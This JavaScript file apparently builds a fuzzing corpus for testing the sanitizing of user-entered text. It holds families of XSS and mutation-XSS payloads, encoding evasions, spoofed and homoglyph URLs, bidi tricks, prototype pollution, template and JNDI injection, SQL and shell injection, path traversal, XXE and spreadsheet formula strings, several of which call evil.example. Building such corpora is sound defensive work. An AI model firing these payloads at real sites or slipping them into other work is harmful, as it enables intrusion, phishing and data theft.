// What people write who want more than an answer: one list for every field that strangers fill.
//
// Own work, made of families: what differs inside of one is what a parser, a browser or a person may trip over. Whatever
// runs calls `alert`, so that a page which runs it opens a dialog.

const of = (values, make) => values.flatMap((value, index) => make(value, index));
const pairs = (first, second, make) => of(first, (a) => second.map((b) => make(a, b)));

/** Tags that load, run or draw, each with a handler that fires without a click. */
const handlers = [
  ...pairs(['img src=x', 'video><source', 'input autofocus', 'svg', 'iframe'], ['onerror', 'onload', 'onfocus', 'ONERROR'], (tag, on) => `<${tag} ${on}=alert(1)>`),
  ...of(['body onload', 'details open ontoggle', 'marquee onstart', 'audio src=x onerror', 'style onload', 'select autofocus onfocus', 'object data=x onerror', 'embed src=x onerror', 'div onpointerenter', 'xss tabindex=1 autofocus onfocusin', 'b onanimationstart', 'dialog open oncancel', 'link rel=stylesheet href=x onerror', 'meter onmouseover'], (tag) => `<${tag}=alert(2)>x`),
  ...of(['/', '\t', '\n', '\f', '/**/', '\u00a0', '\u000b'], (space) => `<img${space}src=x${space}onerror${space}=${space}"alert(3)">`),
];

/** What runs or frames without a handler. */
const elements = [
  '<script>alert(4)</script>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT\n>alert(4)</SCRIPT\n>',
  '<scr<script>ipt>alert(4)</scr</script>ipt>',
  '</script><script>alert(4)</script>',
  '<script type=module>import("//evil.example")</script>',
  '<svg><script>alert(4)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(4) /><a><text y=20>x',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(4)</script></svg>#x">',
  '<svg><foreignObject><iframe src=javascript:alert(4)>',
  '<math><mtext><a xlink:href=javascript:alert(4)>x',
  '<iframe srcdoc="<script>alert(5)</script>">',
  "<iframe srcdoc='&lt;img src=x onerror=alert(5)&gt;'>",
  '<iframe src="javascript:alert(5)">',
  '<object data="data:text/html,<script>alert(5)</script>">',
  '<embed src="data:image/svg+xml,<svg onload=alert(5)>">',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(5)">',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<link rel=import href=//evil.example>',
  '<form action=javascript:alert(5)><button>x',
  '<button form=x formaction=javascript:alert(5)>x',
  '<isindex action=javascript:alert(5) type=image>',
  '<a href=javascript:alert(5)>x</a>',
  '<a href="//evil.example" target=_top ping=//evil.example>x</a>',
  '<img src=//evil.example/pixel.gif>',
  '<img srcset="//evil.example/pixel.gif 1x">',
  '<template shadowrootmode=open><img src=x onerror=alert(5)></template>',
  '<portal src=//evil.example>',
  '<noscript><img src=x onerror=alert(5)></noscript>',
];

/** Mutations: read once as a text and once as markup. */
const mutations = [
  ...of(['title', 'textarea', 'style', 'xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'plaintext', 'select', 'option', 'template'], (tag) => `<${tag}><a title="</${tag}><img src=x onerror=alert(6)>">`),
  ...pairs(['svg', 'math'], ['style', 'title', 'mtext', 'desc', 'annotation-xml encoding=text/html'], (outer, inner) => `<${outer}></p><${inner}><a id="</${inner.split(' ')[0]}><img src=x onerror=alert(6)>">`),
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(6)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(6) src=x>">',
  '<!--><img src=x onerror=alert(6)>-->',
  '<!--!><img src=x onerror=alert(6)>',
  '--!><img src=x onerror=alert(6)>',
  '<![CDATA[><img src=x onerror=alert(6)>]]>',
  '<?xml-stylesheet href="javascript:alert(6)"?><img src=x onerror=alert(6)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<img src="x` `<script>alert(6)</script>"` `>',
  '<table><td><tr><caption><svg onload=alert(6)>',
  '<p id=x></p <img src=x onerror=alert(6)>',
];

/** Out of an attribute or a string of a script. */
const breakouts = [
  ...pairs(['"', "'", '`', '">', "'>", '</title>', '</textarea>', '*/', ']]>', '-->'], ['<img src=x onerror=alert(7)>', ' onmouseover=alert(7) autofocus onfocus=alert(7) x='], (out, then) => out + then),
  '\\"-alert(7)//',
  "\\';alert(7);//",
  '\u2028alert(7)\u2029',
  ';alert(7)//',
  '%0aalert(7)//',
];

/** Hidden from a filter that looks before it decodes. */
const encodings = [
  '&lt;img src=x onerror=alert(8)&gt;',
  '&amp;lt;script&amp;gt;alert(8)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;alert(8)&#60;/script&#62;',
  '&#x3C;script&#x3e;alert(8)',
  '&#0000060script>alert(8)',
  '&lt&NewLine;script&gt;&Tab;alert&lpar;8&rpar;',
  '%3Cscript%3Ealert(8)%3C/script%3E',
  '%253Cscript%253Ealert(8)',
  '\\u003cscript\\u003ealert(8)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=alert(8)\\x3e',
  '\\74script\\76alert(8)',
  '+ADw-script+AD4-alert(8)+ADw-/script+AD4-',
  '+/v8-+ADw-img src=x onerror=alert(8)+AD4-',
  '\u00c0\u00bcscript\u00c0\u00be overlong, as Latin-1',
  '\ufffd\ufffdscript\ufffd\ufffd',
  '\uff1cscript\uff1ealert(8)\uff1c/script\uff1e',
  '\u2039script\u203aalert(8)',
  '\ufe64img src=x onerror=alert(8)\ufe65',
  '<\u017fcript>alert(8)</\u017fcript>',
  '<\u0131mg src=x onerror=alert(8)>',
  '<\u0130frame src=x>',
  '\u00bcscript\u00bealert(8)\u00bc/script\u00be',
  'PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==',
  '=?utf-8?Q?=3Cscript=3Ealert(8)?=',
  ...of(['\u0000', '\u0001', '\u0008', '\u000e', '\u001b', '\u007f', '\u0085', '\u009c', '\u00ad', '\u200b', '\ufeff', '\ufffe'], (char) => `<scr${char}ipt>alert(8)</scr${char}ipt>`),
];

/** Addresses that no link may lead to. */
const schemes = [
  ...pairs(['javascript', 'JaVaScRiPt', 'vbscript', 'data', 'blob', 'file'], ['alert(9)', '//example.test/%0aalert(9)'], (scheme, rest) => `${scheme}:${rest}`),
  ...of(['\t', '\n', '\r', '\u0000', '&Tab;', '&#10;', '%0a', '\\t', '\u200b', '/**/'], (split) => `java${split}script:alert(9)`),
  ...of([' ', '\u0001', '\u00a0', '\ufeff', '\u2028', '&#1;'], (before) => `${before}javascript:alert(9)`),
  'javascript&colon;alert(9)',
  'javascript\uff1aalert(9)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(9)>*/',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==',
  'data:text/html,<script>alert(9)</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(9)"/>',
  'data:application/x-javascript,alert(9)',
  'view-source:javascript:alert(9)',
  'feed:javascript:alert(9)',
  'jar:https://evil.example!/x',
  'filesystem:https://evil.example/x',
  'intent://evil.example#Intent;scheme=javascript;end',
  'ms-msdt:/id PCWDiagnostic',
  'chrome://settings',
  'about:blank',
  'mailto:a@example.test?cc=evil@evil.example&body=x',
  'tel:*#06#',
  'smb://evil.example/share',
  'http://evil.example/',
];

/** Addresses that seem to lead elsewhere than they do. */
export const links = [
  '//evil.example',
  '\\\\evil.example\\share',
  '/\\evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'https:////evil.example/a',
  'https://bank.example@evil.example/',
  'https://bank.example:443@evil.example/',
  'https://bank.example%2f@evil.example/',
  'https://bank.example%00@evil.example/',
  'https://@evil.example/',
  'https://:@evil.example/',
  'https://bank.example\\@evil.example/',
  'https://bank.example#@evil.example/',
  'https://bank.example?@evil.example/',
  'https://b\u0430nk.example/',
  'https://\u0430\u0440\u0440\u04cf\u0435.example/',
  'https://xn--80ak6aa92e.example/',
  'https://p\u0430yp\u0430l.example/pay',
  'https://m\u00fcnchen.example/',
  'https://\u0131nstagram.example/',
  'https://\uff42\uff41\uff4e\uff4b.example/',
  'https://bank\u3002example/',
  'https://bank.example\u2044login.evil.example/',
  'https://bank.example\u2215login.evil.example/',
  'https://b\u00adank.example/',
  'https://b\u200bank.example/',
  'https://bank.example\u200e/',
  'https://bank.example/\u202egpj.exe',
  'https://bank.example/\u2066x\u2069',
  'https://\u05d1\u05e0\u05e7.example/\u05d0',
  'https://2130706433/',
  'https://0x7f.1/',
  'https://[::1]/',
  'https://bank.example:99999/',
  'https://bank.example/%2e%2e/%00',
  'https://bank.example/"onmouseover="alert(10)',
  "https://bank.example/'><img src=x onerror=alert(10)>",
  'https://bank.example/)](javascript:alert(10))',
  'https://bank.example/\u0000x',
  'https://',
  'https://.',
  'https://%',
  `https://bank.example/${'a'.repeat(2500)}`,
];

/** Turned around, hidden, joined: for eyes rather than for browsers. */
const directions = [
  ...of(['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'], (mark) => `invoice${mark}fdp.exe`),
  '\u202e'.repeat(60) + 'deep',
  '\u2069\u2069\u202c\u202c closed but never opened',
  '\u0645\u0631\u062d\u0628\u0627 <b>x</b> \u05e9\u05dc\u05d5\u05dd',
  ...of(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u180e', '\u034f', '\u3164', '\u115f', '\u{e0041}'], (hidden) => `pay${hidden}pal`),
  `z${'\u0301\u0489'.repeat(80)}algo`,
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(6),
  '\ufdfd\u{1242b}\u{12031}',
  '\u{1f1f9}\u{1f1f7}\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
];

/** Halves of pairs and characters that no encoding has: as JSON can say them. */
const halves = ['cut \ud83d', '\ude00 cut', '\ud83d\ud83d\ude00\ude00', '<\ud83dscript>alert(11)', 'nul \u0000 inside', '\uffff\ufffe', '\u{10ffff}\u{1fffe}'];

/** Keys and values that a careless merge follows up to `Object.prototype`. */
const prototypes = [
  ...of(['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'], (key) => [key, `{"${key}":{"polluted":true}}`]),
  '__proto__[polluted]=1',
  'constructor.prototype.polluted=1',
  'constructor[prototype][polluted]=1',
  '["__proto__","polluted"]',
  '{"a":{"__proto__":{"polluted":1}}}',
];

/** What a template would work out. */
const templates = [
  '{{constructor.constructor("alert(12)")()}}',
  '{{7*7}}',
  '${alert(12)}',
  '#{alert(12)}',
  '<%= alert(12) %>',
  '{%raw%}{{x}}{%endraw%}',
  '*{T(java.lang.Runtime)}',
  '@{x}',
  '[[${x}]]',
  '{$x|raw}',
  '${jndi:ldap://evil.example/x}',
  'ng-app ng-on-click=$event.view.alert(12)',
  '<x v-html=alert(12) x-data=alert(12) :is=alert(12)>',
];

/** Styles that load or cover, and names that hide what scripts look for. */
const stylesAndNames = [
  '<style>*{display:none!important}</style>',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">',
  '<x style="width:expression(alert(13))">',
  '<x style="behavior:url(#default#time2)">',
  '</style><img src=x onerror=alert(13)>',
  'red;}body{display:none}',
  'url("javascript:alert(13)")',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  ...of(['root', 'body', 'cookie', 'documentElement', 'getElementById', 'attributes', 'location', 'children'], (name) => `<img name=${name} id=${name}>`),
  '<form id=x><input name=action><input name=attributes></form>',
  '<a id=config href=javascript:alert(13)></a><a id=config name=url href=x></a>',
];

/** WhatsApp's marks and Markdown around, across and inside of tags. */
const marks = [
  '*<b*>x</b>*',
  '_<img src=x_ onerror=alert(14)>_',
  '~<script>~alert(14)</script>~',
  '```<script>alert(14)</script>```',
  '`<img src=x onerror=alert(14)>`',
  '*_~`x`~_*',
  '*https://bank.example/*<b>',
  '[click](javascript:alert(14))',
  '![x](x" onerror="alert(14))',
  '<javascript:alert(14)>',
  '[x]: javascript:alert(14)',
  '[bank](https://evil.example)',
  '# <img src=x onerror=alert(14)>',
  '> quote <svg onload=alert(14)>',
  '***',
  '*'.repeat(99),
];

/** For other readers of the same text: spreadsheets, databases, shells, logs, terminals, formats. */
const others = [
  ...of(['=', '+', '-', '@', '\t=', '\uff1d'], (start) => `${start}HYPERLINK("https://evil.example","x")`),
  '=cmd|\'/c calc\'!A0',
  "' or '1'='1",
  '"; drop table message; --',
  "1' union select null,version()--",
  '%_\\%',
  "\\'; select pg_sleep(9); --",
  '$(reboot)',
  '`reboot`',
  '| reboot #',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON.txt',
  '%s%n%x%p%d',
  '{0}{1!r:>9999}',
  '%1$s %2$*3$d',
  '\u001b[2J\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;javascript:alert(15)\u001b\\link\u001b]8;;\u001b\\',
  'line\r\nSet-Cookie: session=evil',
  'x\r\n\r\n<script>alert(15)</script>',
  '2026-11-21 ERROR forged line',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '-0',
  '1e400',
  '\u0660\u0661\u0662',
  '*)(uid=*))(|(uid=*',
  '//*[contains(.,"x")]',
  '<!--#exec cmd="reboot"-->',
  '{"$gt":""}',
];

/** Much of one thing. */
const lengths = ['<'.repeat(900), '<b>'.repeat(300), '&'.repeat(900), 'W'.repeat(1500), `${'\u0627'.repeat(400)}<img src=x onerror=alert(16)>`, '{"a":'.repeat(120), '('.repeat(600)];

export const families = {
  handlers,
  elements,
  mutations,
  breakouts,
  encodings,
  schemes,
  links,
  directions,
  halves,
  prototypes,
  templates,
  stylesAndNames,
  marks,
  others,
  lengths,
};

export const corpus = [...new Set(Object.values(families).flat())];
